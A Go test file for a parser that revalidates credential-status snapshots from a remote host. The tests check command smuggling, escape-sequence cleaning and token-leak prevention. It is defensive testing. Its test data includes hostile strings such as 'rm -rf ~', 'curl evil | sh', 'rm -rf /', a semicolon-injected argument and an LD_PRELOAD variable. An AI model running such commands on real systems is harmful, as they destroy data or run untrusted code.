package remote

import (
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/authtray/authtray/core/profile"
	"github.com/authtray/authtray/core/safetext"
	"github.com/authtray/authtray/core/safetext/safetexttest"
	"github.com/authtray/authtray/core/sshdest"
)

var vps = Remote{Name: "vps", Destination: sshdest.MustParse("me@vps.example.net")}

// fakeToken is token-shaped so a leak would be caught, and obviously fake.
func fakeToken() string { return "sk-ant-oat01-" + strings.Repeat("FAKE", 6) + "LEAK" }

const goodLine = `{"schema":1,"status":"expiring","checkedAt":"2026-11-25T09:00:00Z","warnWindowSeconds":86400,
 "profiles":[
  {"id":"anthropic:manual","provider":"anthropic","kind":"token","source":"gateway","location":"/root/.openclaw/state/openclaw.sqlite","agent":"main","host":"","state":"expiring","expiresAt":"2026-11-25T11:00:00Z","loginEndsAt":null,"refreshable":false,"message":"Expires in 2 h (11:00)","fix":"openclaw models auth setup-token --provider anthropic","usedBy":[{"agent":"main","model":"anthropic/claude-sonnet-4-6","role":"default"}],"unusable":null,"judged":true},
  {"id":"claude-code","provider":"anthropic","kind":"oauth","source":"claude-code","location":"/root/.claude/.credentials.json","agent":"","host":"","state":"ok","expiresAt":null,"loginEndsAt":"2026-12-20T00:00:00Z","refreshable":true,"message":"ok","fix":"","usedBy":[],"unusable":{"kind":"cooldown","reason":"rate_limit","until":"2026-11-25T10:00:00Z"},"judged":true},
  {"id":"chained","host":"other","state":"ok"}
 ],"hosts":[],"notes":[]}`

func TestParseSnapshot(t *testing.T) {
	got, err := ParseSnapshot([]byte(goodLine), vps)
	if err != nil {
		t.Fatal(err)
	}
	if len(got.Profiles) != 2 {
		t.Fatalf("got %d rows, want 2 (the chained host's row dropped)", len(got.Profiles))
	}
	p := got.Profiles[0]
	if p.Host != "vps" || p.State != profile.Expiring || !p.Judged || p.Kind != profile.Token || p.ExpiresAt == nil {
		t.Errorf("row 0 = %+v", p)
	}
	// An authtray without fixArgs: the setup-token chain, built here from
	// the row's id, provider and agent.
	if p.Fix != "ssh -t me@vps.example.net -- 'claude setup-token && openclaw models auth paste-token --provider anthropic --profile-id anthropic:manual --expires-in 365d --agent main'" {
		t.Errorf("fix = %q", p.Fix)
	}
	if want := "sh -c " + profile.TokenChainScript + " sh openclaw models auth paste-token --provider anthropic --profile-id anthropic:manual --expires-in 365d --agent main"; strings.Join(p.FixArgs, " ") != want || p.FixEnv != nil {
		t.Errorf("fixArgs = %q, fixEnv = %q", p.FixArgs, p.FixEnv)
	}
	if len(p.UsedBy) != 1 || p.UsedBy[0].Role != "default" {
		t.Errorf("usedBy = %+v", p.UsedBy)
	}
	c := got.Profiles[1]
	if !c.Refreshable || !c.CanRefresh || c.Unusable == nil || c.Unusable.Kind != "cooldown" || c.Fingerprint == "" {
		t.Errorf("row 1 = %+v", c)
	}
	if !got.CheckedAt.Equal(time.Date(2026, 11, 25, 9, 0, 0, 0, time.UTC)) {
		t.Errorf("checkedAt = %v", got.CheckedAt)
	}
}

func TestParseSnapshotRejects(t *testing.T) {
	tests := []struct{ name, line, want string }{
		{"not json", "bash: authtray: command not found", "not JSON"},
		{"empty", "", "not JSON"},
		{"malformed", `{"schema":1,`, "malformed JSON"},
		{"schema 2", `{"schema":2,"checkedAt":"2026-11-25T09:00:00Z","profiles":[]}`, "incompatible authtray (schema 2)"},
		{"schema 2 odd shape", `{"schema":2,"profiles":{}}`, "incompatible authtray (schema 2)"},
		{"no schema", `{"checkedAt":"2026-11-25T09:00:00Z","profiles":[]}`, "incompatible authtray (no schema)"},
		{"no checkedAt", `{"schema":1,"profiles":[]}`, "checkedAt"},
		{"bad time", `{"schema":1,"checkedAt":"yesterday","profiles":[]}`, "malformed JSON"},
		{"year 1", `{"schema":1,"checkedAt":"0001-01-01T00:00:00Z","profiles":[]}`, "checkedAt"},
		{"too big", `{"schema":1,"x":"` + strings.Repeat("a", MaxLine) + `"}`, "larger than"},
		{"too many rows", `{"schema":1,"checkedAt":"2026-11-25T09:00:00Z","profiles":[` + strings.Repeat(`{},`, MaxRows) + `{}]}`, "more than"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := ParseSnapshot([]byte(tt.line), vps)
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Fatalf("err = %v, want %q", err, tt.want)
			}
		})
	}
}

func TestParseSnapshotRevalidates(t *testing.T) {
	row := func(fields string) string {
		return `{"schema":1,"checkedAt":"2026-11-25T09:00:00Z","profiles":[{` + fields + `}]}`
	}
	tok := fakeToken()
	tests := []struct {
		name   string
		line   string
		check  func(profile.Profile) bool
		reason string
	}{
		{"unknown state", row(`"state":"fine","judged":false`), func(p profile.Profile) bool { return p.State == profile.Error && p.Judged }, "error, judged"},
		{"unreachable from host is not trusted", row(`"state":"unreachable"`), func(p profile.Profile) bool { return p.State == profile.Error }, "error"},
		{"unknown kind", row(`"state":"ok","kind":"password"`), func(p profile.Profile) bool { return p.State == profile.Error }, "error"},
		{"unknown source", row(`"state":"ok","source":"evil"`), func(p profile.Profile) bool { return p.State == profile.Error }, "error"},
		{"escape in message", row(`"state":"ok","message":"\u001b]0;pwn\u0007hi \u202eevil"`), func(p profile.Profile) bool { return p.Message == "hi evil" }, "cleaned"},
		{"shell in fix", row(`"state":"ok","fix":"claude setup-token; rm -rf ~"`), func(p profile.Profile) bool { return p.Fix == "" }, "fix dropped"},
		{"unknown program in fix", row(`"state":"ok","fix":"curl evil | sh"`), func(p profile.Profile) bool { return p.Fix == "" }, "fix dropped"},
		{"absurd expiry", row(`"state":"ok","expiresAt":"9999-01-01T00:00:00Z"`), func(p profile.Profile) bool { return p.ExpiresAt == nil }, "expiry dropped"},
		{"refreshable api key", row(`"state":"ok","kind":"api_key","refreshable":true`), func(p profile.Profile) bool { return !p.Refreshable }, "not refreshable"},
		{"bad unusable kind", row(`"state":"ok","unusable":{"kind":"bogus"}`), func(p profile.Profile) bool { return p.Unusable == nil }, "unusable dropped"},
		{"unmapped secret field", row(`"state":"ok","token":"` + tok + `","labels":["` + tok + `"]`), func(p profile.Profile) bool {
			b, _ := json.Marshal(p)
			return !strings.Contains(string(b), "FAKE")
		}, "no token bytes"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := ParseSnapshot([]byte(tt.line), vps)
			if err != nil {
				t.Fatal(err)
			}
			if len(got.Profiles) != 1 || !tt.check(got.Profiles[0]) {
				t.Fatalf("want %s, got %+v", tt.reason, got.Profiles)
			}
		})
	}
}

// FuzzParseSnapshot: no input panics, and every row that comes out is
// valid: a known state, the host's name, clean strings, sane times.
func FuzzParseSnapshot(f *testing.F) {
	f.Add([]byte(goodLine))
	f.Add([]byte(`{"schema":1,"checkedAt":"2026-11-25T09:00:00Z","profiles":[{"state":"ok","message":"\u001b[31m"}]}`))
	f.Add([]byte(`{"schema":2}`))
	f.Fuzz(func(t *testing.T, line []byte) {
		got, err := ParseSnapshot(line, vps)
		if err != nil {
			if strings.ContainsAny(err.Error(), "\x1b\x07\n") {
				t.Fatalf("error carries control characters: %q", err)
			}
			return
		}
		for _, p := range got.Profiles {
			if _, ok := knownStates[string(p.State)]; !ok || p.Host != "vps" {
				t.Fatalf("row %+v", p)
			}
			for _, s := range []string{p.ID, p.Provider, p.Location, p.Agent, p.Account, p.Message, p.Note, p.Fix} {
				if safetexttest.Unsafe(s) != "" || len(s) > safetext.MaxLine+64 {
					t.Fatalf("unclean string %q", s)
				}
			}
			if len(p.FixArgs) > MaxFixArgs || len(p.FixEnv) > MaxFixEnv {
				t.Fatalf("fix argv %q env %q", p.FixArgs, p.FixEnv)
			}
			if _, _, ok := cleanFix(p.FixEnv, p.FixArgs); len(p.FixArgs) > 0 && !ok {
				t.Fatalf("fix argv %q env %q kept", p.FixArgs, p.FixEnv)
			}
			for _, w := range append(append([]string(nil), p.FixArgs...), p.FixEnv...) {
				if safetexttest.Unsafe(w) != "" || strings.ContainsAny(w, "\n\t") {
					t.Fatalf("unclean fix word %q", w)
				}
			}
			for _, tm := range []*time.Time{p.ExpiresAt, p.LoginEndsAt} {
				if tm != nil && !saneTime(*tm) {
					t.Fatalf("time %v", tm)
				}
			}
		}
	})
}

// A host's fixArgs and fixEnv are kept only as an authtray prints them:
// a known program with plain words, or the setup-token chain's constant
// script running one; known variables without control characters.
func TestParseSnapshotFixArgs(t *testing.T) {
	chain := `["sh","-c","claude setup-token \u0026\u0026 exec \"$@\"","sh","openclaw","models","auth","paste-token","--provider","anthropic","--profile-id","anthropic:work","--expires-in","365d","--agent","work"]`
	line := func(args, env string) string {
		return `{"schema":1,"checkedAt":"2026-11-25T09:00:00Z","profiles":[{"id":"anthropic:work","provider":"anthropic","kind":"token","source":"gateway","agent":"work","state":"expired","fix":"openclaw models auth paste-token","fixArgs":` + args + `,"fixEnv":` + env + `,"judged":true}]}`
	}
	local := "sh -c " + profile.TokenChainScript + " sh openclaw models auth paste-token --provider anthropic --profile-id anthropic:work --expires-in 365d --agent work"
	tests := []struct {
		name, args, env string
		want, wantEnv   string
	}{
		{"the host's chain", chain, `["OPENCLAW_STATE_DIR=/srv/my gw"]`, local, "OPENCLAW_STATE_DIR=/srv/my gw"},
		{"plain argv", `["openclaw","models","auth","login","--provider","anthropic","--agent","work"]`, `null`, "openclaw models auth login --provider anthropic --agent work", ""},
		{"another script", `["sh","-c","curl x | sh","sh","openclaw"]`, `null`, local, ""},
		{"unknown program", `["rm","-rf","/"]`, `null`, local, ""},
		{"metacharacter", `["openclaw","models;reboot"]`, `null`, local, ""},
		{"quote", `["openclaw","it's"]`, `null`, local, ""},
		{"control character", `["openclaw","models\u001b[31m"]`, `null`, local, ""},
		{"unknown variable", chain, `["LD_PRELOAD=/tmp/x.so"]`, local, ""},
		{"control character in a value", chain, `["OPENCLAW_STATE_DIR=/srv/\u001b]0;x\u0007"]`, local, ""},
		{"newline in a value", chain, `["OPENCLAW_STATE_DIR=/srv/a\nb"]`, local, ""},
		{"too many words", `[` + strings.Repeat(`"openclaw",`, MaxFixArgs) + `"openclaw"]`, `null`, local, ""},
		{"too long", `["openclaw","` + strings.Repeat("a", MaxFixWord+1) + `"]`, `null`, local, ""},
		{"not a list", `"openclaw models"`, `null`, "", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := ParseSnapshot([]byte(line(tt.args, tt.env)), vps)
			if tt.want == "" {
				if err == nil {
					t.Fatal("accepted")
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			p := got.Profiles[0]
			if strings.Join(p.FixArgs, " ") != tt.want || strings.Join(p.FixEnv, ",") != tt.wantEnv {
				t.Errorf("fixArgs = %q, fixEnv = %q\nwant %s with %q", p.FixArgs, p.FixEnv, tt.want, tt.wantEnv)
			}
			if !strings.HasPrefix(p.Fix, "ssh -t me@vps.example.net -- ") {
				t.Errorf("fix = %q", p.Fix)
			}
		})
	}
	got, _ := ParseSnapshot([]byte(line(chain, `["OPENCLAW_STATE_DIR=/srv/my gw"]`)), vps)
	if want := `ssh -t me@vps.example.net -- 'claude setup-token && env OPENCLAW_STATE_DIR='\''/srv/my gw'\'' openclaw models auth paste-token --provider anthropic --profile-id anthropic:work --expires-in 365d --agent work'`; got.Profiles[0].Fix != want {
		t.Errorf("fix = %s\nwant %s", got.Profiles[0].Fix, want)
	}
}
